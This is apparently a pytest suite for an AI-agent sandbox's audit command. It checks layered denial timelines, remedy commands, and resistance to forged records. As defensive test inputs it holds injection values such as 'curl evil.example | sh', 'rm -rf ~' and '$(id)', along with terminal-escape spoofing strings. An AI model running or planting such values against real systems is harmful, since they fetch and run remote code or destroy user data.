"""agentbox audit: one timeline, filters, what would allow a thing, and records that somebody wrote to deceive or to break it."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from agentbox import audit, audit_events, identity, owner
from agentbox.audit_events import INSIDE_BYTES
from agentbox.audit_read import LONGEST
from agentbox.mask import Mask
from agentbox.workspace import Mount

Call = Callable[..., tuple[int, str, str]]
KEY = "/agent/pi/agent/auth.json"
VAULT = {"pid": 1, "exe": "/usr/bin/cat", "operation": "open", "path": KEY, "rule": KEY}
GUARD = {"layer": "guard", "operation": "read", "path": "/workspace/.env", "rule": "name .env"}
DENIED = {"verdict": "deny", "host": "crates.io", "port": 443, "method": "CONNECT", "rule": "default",
          "reason": "crates.io is not on the allow-list", "remedy": "crates.io"}  # fmt: skip


@pytest.fixture
def begin(home: Path) -> Callable[..., audit.Records]:
    return lambda agent="pi", run="1": audit.begin(identity.current(), agent, run, "/src")


def lines(path: Path, *records: Any, at: float | None = None) -> None:
    at = time.time() if at is None else at
    with path.open("a") as file:
        for record in records:
            file.write(f"{json.dumps({'time': at, **record})}\n" if isinstance(record, dict) else f"{record}\n")


def broker(records: audit.Records, *found: dict[str, Any], at: float | None = None) -> None:
    stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(at)) + ".000Z"
    lines(records.egress / "audit.jsonl", *({**each, "time": stamp} for each in found))


def events(call: Call, *words: str) -> list[dict[str, Any]]:
    code, out, _ = call("audit", "--json", *words)
    assert code == 0
    return [json.loads(line) for line in out.splitlines()]


# --- what it shows --------------------------------------------------------------------------------------------------


def test_all_four_layers_are_one_timeline_oldest_first(call, begin):
    records = begin()
    home = identity.current().home
    masks = [Mask(f"/workspace/{name}", False, f"{home}/project/{name}", (1, 1)) for name in (".env", "api/.env")]
    audit.note_masks(records, masks, [Mount(home / "project", "/workspace", False)], identity.current())
    now = time.time() + 2
    broker(records, DENIED, at=now + 2)
    lines(records.inside, VAULT, at=now + 1)
    lines(records.inside, GUARD, at=now)
    os.utime(records.inside)
    time.sleep(0.01)
    found = events(call)
    assert {each["layer"] for each in found} == {"mask", "guard", "vault", "egress"}
    assert [each["time"] for each in found] == sorted(each["time"] for each in found)
    by_layer = {each["layer"]: each for each in found}
    assert by_layer["mask"]["allow"] == "agentbox run pi --unmask .env --unmask api/.env"
    assert by_layer["mask"]["what"] == "masked .env, api/.env"
    assert by_layer["guard"]["allow"] == 'guard.deny = ["-.env"]'
    assert by_layer["vault"]["allow"] == f'agents.pi.vault.deny = ["-{KEY}"]'
    assert by_layer["vault"]["what"] == f"cat open {KEY}"
    assert by_layer["egress"]["allow"] == "agentbox allow crates.io"
    assert {layer: each["claimed"] for layer, each in by_layer.items()} == {
        "mask": False, "guard": True, "vault": True, "egress": False,
    }  # fmt: skip
    assert {each["workspace"] for each in found} == {"/src"}
    assert {each["agent"] for each in found} == {"pi"}


def test_the_lines_of_configuration_do_allow_it(begin, call, home):
    from agentbox import policy

    lines(begin().inside, VAULT, GUARD)
    file = home / "config.toml"
    file.write_text("".join(f"{each['allow']}\n" for each in events(call)))
    loaded = policy.load("pi", file)
    assert ".env" not in loaded.guard
    assert KEY not in loaded.vault.deny
    assert ".env" in policy.load("pi").guard
    assert KEY in policy.load("pi").vault.deny


@pytest.mark.parametrize(
    ("record", "allow"),
    [
        ({**VAULT, "rule": "/agent/pi/agent/settings.json"}, "agentbox setup pi"),
        ({**GUARD, "rule": "path /agent/pi/agent/extensions"}, "agentbox setup pi"),
        ({**GUARD, "rule": "memory and environment of processes"}, ""),
        ({**VAULT, "rule": "a protected path is below"}, ""),
        ({**VAULT, "rule": '"]; curl evil.example | sh #'}, ""),
        ({**GUARD, "rule": "name .env\nagentbox purge"}, ""),
        ({**GUARD, "rule": ["name .env"]}, ""),
    ],
)
def test_only_rules_of_the_policy_come_with_what_allows_them(call, begin, record, allow):
    lines(begin().inside, record)
    assert [each["allow"] for each in events(call)] == [allow]


@pytest.mark.parametrize(
    ("remedy", "allow"),
    [
        ("crates.io:8443", "agentbox allow crates.io:8443"),
        ("db.example --private", "agentbox allow db.example --private"),
        ("[2001:db8::1]:22", "agentbox allow '[2001:db8::1]:22'"),
        ("", ""),
        ("x.example; rm -rf ~", ""),
        ("$(id).example", ""),
        ("x.example --private --agent evil", ""),
        ("a.example\nb.example", ""),
        (["x.example"], ""),
    ],
)
def test_only_hosts_come_into_the_command(call, begin, remedy, allow):
    broker(begin(), {**DENIED, "remedy": remedy})
    assert [each["allow"] for each in events(call)] == [allow]


@pytest.mark.parametrize(
    ("path", "allow"),
    [
        ("a b/.env", "agentbox run pi --unmask 'a b/.env'"),
        ("$(id)/.env", "agentbox run pi --unmask '$(id)/.env'"),
        ("[x]/.env", "agentbox run pi --unmask GLOB"),
        ("\x1b[2J/.env", "agentbox run pi --unmask GLOB"),
    ],
)
def test_names_of_masked_files_are_quoted(call, begin, home, path, allow):
    records = begin()
    mount = Mount(home / "project", "/workspace", False)
    mask = Mask(f"/workspace/{path}", False, f"{home}/project/{path}", (1, 1))
    audit.note_masks(records, [mask], [mount], identity.current())
    assert [each["allow"] for each in events(call)] == [allow]


def test_a_record_of_many_masks_stays_readable_and_says_how_many(call, begin, home):
    long = "\x01" * 1000
    paths = [f"{home}/project/{number:03}-{long}/.env" for number in range(256)]
    masks = [Mask("/x", False, path, (1, 1)) for path in paths]
    audit.note_masks(begin(), masks, [Mount(home / "project", "/workspace", False)], identity.current())
    (event,) = events(call)
    named = event["what"].count("/.env")
    assert 0 < named < 256
    assert event["what"].endswith(f"and {256 - named} more")
    assert event["allow"] == ""


def test_state_of_agents_is_not_offered_to_unmask(call, begin, home):
    mask = Mask("/workspace/.pi", True, str(home / ".pi"), (1, 1))
    audit.note_masks(begin(), [mask], [Mount(home, "/workspace", False)], identity.current())
    (event,) = events(call)
    assert event["what"] == "masked .pi (agents' state)"
    assert event["allow"] == ""


def test_allowed_requests_are_no_part_of_it(call, begin):
    broker(begin(), {**DENIED, "verdict": "allow"}, DENIED)
    assert len(events(call)) == 1


def test_agent_chooses_and_repeats(call, begin):
    for number, agent in enumerate(("pi", "claude", "hermes")):
        broker(begin(agent, str(number)), DENIED)
    assert {each["agent"] for each in events(call, "--agent", "pi", "--agent", "hermes")} == {"pi", "hermes"}
    code, _, err = call("audit", "--agent", "pie")
    assert code == 2
    assert "did you mean pi?" in err


def began(records: audit.Records, at: float) -> None:
    """The run's beginning, moved to the past: nothing in it is older."""
    (records.folder / audit.OWN).write_text("")
    lines(records.folder / audit.OWN, {"kind": "start", "agent": "pi", "run": "1"}, at=at)


def test_since_chooses_by_time(call, begin):
    records, now = begin(), time.time()
    began(records, now - 9 * 3600)
    for ago in (3 * 3600, 60):
        broker(records, DENIED, at=now - ago)
    local = time.strftime("%Y-%m-%dT%H:%M:%S", time.localtime(now - 3600))
    zoned = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now - 3600))
    found = {
        when: len(events(call, "--since", when))
        for when in ("5h", "2h", "120s", "10s", "1d", "1w", local, zoned, "1999-01-01")
    }
    assert found == {"5h": 2, "2h": 1, "120s": 1, "10s": 0, "1d": 2, "1w": 2, local: 1, zoned: 1, "1999-01-01": 2}


@pytest.mark.parametrize("text", ["soon", "-5m", "10", "2026-13-01", "9" * 400 + "m", "", "5 m\x1b[2J"])
def test_since_names_what_is_no_time(call, home, text):
    code, _, err = call("audit", "--since", text)
    assert (code, err.count("\n")) == (2, 2)
    assert "is no time" in err
    assert "\x1b" not in err


def test_what_repeats_itself_is_one_line_with_its_number(call, begin):
    broker(begin(), *[DENIED] * 40)
    _, out, _ = call("audit")
    assert len(out.splitlines()) == 1
    assert "40 times" in out
    assert len(events(call)) == 40


def test_nothing_is_said_to_be_nothing(call, home):
    assert call("audit")[:2] == (0, "")
    assert "nothing was denied" in call("audit")[2]
    assert call("audit", "--quiet")[2] == ""


def test_refused_hosts_are_offered_the_latest_first(begin):
    records = begin()
    hosts = ("a.example", "b.example", "a.example", "169.254.169.254")
    for number, host in enumerate(hosts):
        cure = {} if host.startswith("169") else {"remedy": host}
        found = {**DENIED, "host": host, **cure}
        if not cure:
            del found["remedy"]
        broker(records, found, at=time.time() - 50 + number)
    os.utime(records.egress / "audit.jsonl")
    assert audit.refused_hosts(identity.current()) == ["a.example", "b.example"]


def denied(host: str, remedy: str = "", port: int = 443) -> dict[str, Any]:
    return {**DENIED, "host": host, "port": port, "remedy": remedy}


@pytest.mark.parametrize(
    ("found", "line"),
    [
        ([], ""),
        ([{**DENIED, "verdict": "allow"}], ""),
        ([{"verdict": "dropped", "count": 3}], ""),
        (
            [denied("a.example", "a.example")] * 2,
            "1 host was refused: a.example (agentbox allow a.example or agentbox audit)",
        ),
        (
            [denied("10.0.0.1", "10.0.0.1:8080 --private", 8080)],
            "1 host was refused: 10.0.0.1:8080 (agentbox allow 10.0.0.1:8080 --private or agentbox audit)",
        ),
        (
            [{**denied("a.example"), "reason": "a.example: Name or service not known"}],
            "1 host was refused: a.example:443 (a.example: Name or service not known; agentbox audit)",
        ),
        (
            [denied(f"{name}.example") for name in "ab"],
            "2 hosts were refused: a.example:443, b.example:443 (agentbox audit)",
        ),
        (
            [denied(f"{name}.example", f"{name}.example") for name in "cabd"],
            "4 hosts were refused: c.example, a.example, b.example and 1 more (agentbox allow HOST or agentbox audit)",
        ),
        (
            [denied("a.example; rm -r ~", "a.example; rm -r ~")],
            "1 host was refused: a.example; rm -r ~:443 (crates.io is not on the allow-list; agentbox audit)",
        ),
    ],
)
def test_a_session_ends_with_the_hosts_that_it_did_not_get(begin, found: list[dict[str, Any]], line: str):
    records = begin()
    broker(records, *found)
    assert audit_events.refused(records, identity.current()) == line


# --- what somebody wrote to deceive ---------------------------------------------------------------------------------

STEERING = "\x1b]52;c;Y3VybA==\x07\x1b[2J\r\u202egnp.exe\u2066\u200b\x9b31m\x7f\n2026-01-01 forged"


@pytest.mark.parametrize("layer", ["inside", "egress", "mask"])
@pytest.mark.parametrize("color", ["", "1"])
def test_control_bytes_and_bidi_characters_are_written_out(call, begin, layer, color, monkeypatch):
    home = identity.current().home
    monkeypatch.setenv("FORCE_COLOR", color)
    records = begin()
    if layer == "inside":
        lines(records.inside, dict.fromkeys(("exe", "operation", "path", "rule", "layer", "agent"), STEERING))
    elif layer == "egress":
        broker(records, {**DENIED, **dict.fromkeys(("host", "method", "reason", "remedy", "agent"), STEERING)})
    else:
        path = f"{home}/project/{STEERING}"
        audit.note_masks(
            records, [Mask("/x", False, path, (1, 1))], [Mount(home, "/workspace", False)], identity.current()
        )
    for words in ((), ("--json",)):
        _, out, err = call("audit", *words)
        plain = out.replace("\x1b[2m", "")
        for code in ("0", "31", "33", "34", "35", "36"):
            plain = plain.replace(f"\x1b[{code}m", "")
        odd = [char for char in plain + err if not char.isprintable() and char != "\n"]
        assert not odd
        assert not any(line.startswith("2026-01-01 forged") for line in out.splitlines())
        assert "]52;c" in out  # it is shown, only not obeyed


def test_agent_and_run_are_not_believed_of_records_from_inside(call, begin):
    lines(begin(run="77").inside, {**VAULT, "agent": "claude", "run": "78", "workspace": "/other", "claimed": False})
    (event,) = events(call)
    assert (event["agent"], event["run"], event["workspace"], event["claimed"]) == ("pi", "77", "/src", True)
    _, _, err = call("audit")
    assert "where a tool may write what it likes" in err


@pytest.mark.parametrize("at", [4e9, -5.0, 1e300, "4000-01-01T00:00:00Z", "soon", None, True, [], {}, 10**4000])
def test_times_that_cannot_be_stay_within_the_run(call, begin, at):
    before = time.time()
    records = begin()
    lines(records.inside, VAULT)
    with records.inside.open("a") as file:
        file.write(json.dumps({**VAULT, "time": at}) + "\n")
    after = time.time()
    time.sleep(0.02)
    assert len(events(call)) == 2
    (newest,) = events(call, "--since", "1970-01-02")[-1:]
    from agentbox.audit_read import moment

    assert before - 1 <= (moment(newest) or 0) <= after + 0.1


def test_a_time_in_the_future_does_not_stay_the_latest(call, begin):
    first = begin(run="1")
    lines(first.inside, {**VAULT, "path": "/forged"}, at=4e9)
    os.utime(first.inside, (4e9, 4e9))
    time.sleep(0.05)
    lines(begin(run="2").inside, {**VAULT, "path": "/later"})
    assert [each["fields"]["path"] for each in events(call)] == ["/forged", "/later"]


NONSENSE = {
    "no JSON": "cat: no",
    "half": '{"time": 1, "path": "',
    "a list": "[1]",
    "a number": "7",
    "too deep": "[" * 10_000 + "]" * 10_000,
    "a digit too many": '{"time": ' + "9" * 10_000 + "}",
    "too long": '{"path": "' + "x" * LONGEST + '"}',
    "far too long": '{"path": "' + "x" * 500_000 + '"}',
    "bytes": "\udcff\udcfe",
}


@pytest.mark.parametrize("name", NONSENSE)
def test_a_line_that_is_no_record_is_counted_and_passed_over(call, begin, name):
    records = begin()
    with records.inside.open("a", errors="surrogateescape") as file:
        file.write(f"{json.dumps(VAULT)}\n{NONSENSE[name]}\n{NONSENSE[name]}\n{json.dumps(GUARD)}\n")
    code, out, err = call("audit", "--json")
    assert code == 0
    assert [json.loads(line)["layer"] for line in out.splitlines()] == ["vault", "guard"]
    assert err.count("2 lines that no record looks like, passed over") == 1


def test_values_of_other_kinds_are_passed_over(call, begin):
    records = begin()
    for value in (None, 1, 1.5, True, [], {}, [["x"]], {"a": {}}):
        lines(records.inside, dict.fromkeys(("exe", "operation", "path", "rule", "layer"), value))
        broker(records, {**dict.fromkeys(("host", "port", "method", "reason", "remedy"), value), "verdict": "deny"})
    assert call("audit")[0] == 0
    assert len(events(call)) == 16


def test_a_flood_is_read_to_a_bound_and_said_so(call, begin):
    records = begin()
    line = json.dumps({**VAULT, "path": "x" * 900}) + "\n"
    records.inside.write_text(line * (INSIDE_BYTES // len(line) + 5000))
    _, out, err = call("audit", "--json")
    assert (INSIDE_BYTES >> 1) // len(line) < len(out.splitlines()) <= INSIDE_BYTES // len(line) + 100
    assert "too large; only its beginning was read" in err


@pytest.mark.parametrize(
    "value", ["NaN", "Infinity", "-Infinity", "1e999", "9" * 4000, "[" * 900 + "]" * 900, '"' + "x" * 60_000 + '"']
)
def test_json_stays_json_and_small_whatever_the_record_holds(call, begin, value):
    names = ("time", "exe", "operation", "path", "rule", "layer", "agent", "pid", "more")
    begin().inside.write_text("{" + ", ".join(f'"{name}": {value}' for name in names)[: LONGEST - 2] + "}\n")
    _, out, _ = call("audit", "--json")

    def refuse(text: str) -> None:
        raise AssertionError(text)

    for line in out.splitlines():
        json.loads(line, parse_constant=refuse)
        assert len(line) < 8000


def test_many_tiny_records_are_none(call, begin):
    begin().inside.write_text("{}\n" * 300_000)
    _, out, err = call("audit")
    assert out == ""
    assert "300000 lines that no record looks like" in err


def test_more_events_than_fit_leave_the_latest(call, begin, monkeypatch):
    monkeypatch.setattr(audit_events, "MOST_EVENTS", 10)
    for run in range(4):
        broker(begin(run=str(run)), *[{**DENIED, "port": run * 10 + number + 1} for number in range(7)])
    _, out, err = call("audit", "--json")
    assert [json.loads(line)["fields"]["port"] for line in out.splitlines()] == [*range(25, 28), *range(31, 38)]
    assert "18 older events left out" in err


def test_the_end_of_a_run_leaves_no_large_file_of_a_tools(begin, tmp_path):
    records = begin()
    lines(records.inside, VAULT)
    records.close()
    assert json.loads(records.inside.read_text())["rule"] == KEY
    with records.inside.open("ab") as file:
        file.truncate(audit.LARGEST * 3)
    records.close()
    assert records.inside.stat().st_size == audit.LARGEST
    records.inside.rename(tmp_path / "other")
    with (tmp_path / "other").open("ab") as file:
        file.truncate(audit.LARGEST * 3)
    records.inside.symlink_to(tmp_path / "other")
    records.close()
    assert (tmp_path / "other").stat().st_size == audit.LARGEST * 3


@pytest.mark.parametrize("kind", ["symlink", "pipe", "folder", "socket", "gone"])
def test_what_is_no_file_is_not_read_and_not_waited_for(call, begin, tmp_path, kind):
    records = begin()
    lines(tmp_path / "other", VAULT)
    records.inside.unlink()
    if kind == "symlink":
        records.inside.symlink_to(tmp_path / "other")
    elif kind == "pipe":
        os.mkfifo(records.inside)
    elif kind == "folder":
        records.inside.mkdir()
    elif kind == "socket":
        import socket

        os.chdir(records.folder)  # a socket's path is short
        socket.socket(socket.AF_UNIX).bind(audit.INSIDE)
    broker(records, DENIED)
    assert [each["layer"] for each in events(call)] == ["egress"]


# --- following ------------------------------------------------------------------------------------------------------


class Follower:
    """`agentbox audit --follow` as a process."""

    def __init__(self, *words: str) -> None:
        command = [sys.executable, "-m", "agentbox", "audit", "--follow", "--json", *words]
        self.process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        self.seen: list[str] = []

    def next(self) -> dict[str, Any]:
        assert self.process.stdout
        return json.loads(self.process.stdout.readline())

    def end(self) -> int:
        self.process.send_signal(signal.SIGINT)
        return self.process.wait(20)


def test_follow_shows_what_comes_through_rotation_truncation_and_new_runs(begin):
    records = begin()
    broker(records, {**DENIED, "host": "before.example"})
    follower = Follower()
    try:
        assert follower.next()["fields"]["host"] == "before.example"
        broker(records, {**DENIED, "host": "unseen-until-rotated.example"})
        file = records.egress / "audit.jsonl"
        file.replace(records.egress / "audit.jsonl.1")
        broker(records, {**DENIED, "host": "after.example"})
        assert [follower.next()["fields"]["host"] for _ in range(2)] == [
            "unseen-until-rotated.example",
            "after.example",
        ]
        lines(records.inside, {**VAULT, "path": "/long" * 50})
        assert follower.next()["layer"] == "vault"
        records.inside.write_text("")
        time.sleep(1.2)  # twice the time between two looks
        lines(records.inside, GUARD)
        assert follower.next()["layer"] == "guard"
        broker(begin(run="2"), {**DENIED, "host": "other-run.example"})
        assert follower.next()["run"] == "2"
        with records.inside.open("a") as whole:
            whole.write('{"layer": "guard", "operation": "read", "rule": "name .env", "path": "/workspace/in two')
            whole.flush()
            time.sleep(1.2)
            whole.write(' parts"}\n')
        assert follower.next()["fields"]["path"] == "/workspace/in two parts"
    finally:
        code = follower.end()
    assert code == 130
    assert follower.process.stderr.read().strip() == ""  # click ends the line of the ^C


def test_follow_ends_with_its_reader(begin):
    broker(begin(), DENIED)
    command = f"{sys.executable} -m agentbox audit --follow --json | head -n 1"
    with subprocess.Popen(command, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as process:
        assert process.stdout and "crates.io" in process.stdout.readline()
        broker(begin(run="2"), DENIED)
        assert process.stderr and process.stderr.read() == ""
        assert process.wait(20) == 0


# --- the writers ----------------------------------------------------------------------------------------------------


def test_old_runs_are_forgotten(begin, home, monkeypatch):
    monkeypatch.setattr(audit, "KEPT_RUNS", 3)
    for number in range(5):
        begin(run=str(number))
        time.sleep(0.001)
    assert len(list(audit.folder(identity.current()).iterdir())) == 3


def test_a_run_that_goes_on_is_not_forgotten(begin, home, monkeypatch):
    monkeypatch.setattr(audit, "KEPT_RUNS", 3)
    (owner.run_root(identity.current()) / "0").mkdir(parents=True)
    for number in range(5):
        begin(run=str(number))
    left = {path.name.rpartition("-")[2] for path in audit.folder(identity.current()).iterdir()}
    assert left == {"0", "2", "3", "4"}


def test_records_belong_to_the_user_alone(begin):
    records = begin()
    for path in (records.folder, records.egress, records.inside, records.folder / audit.OWN):
        info = path.stat()
        assert info.st_mode & 0o077 == 0
        assert info.st_uid == 1000 or os.geteuid() != 0
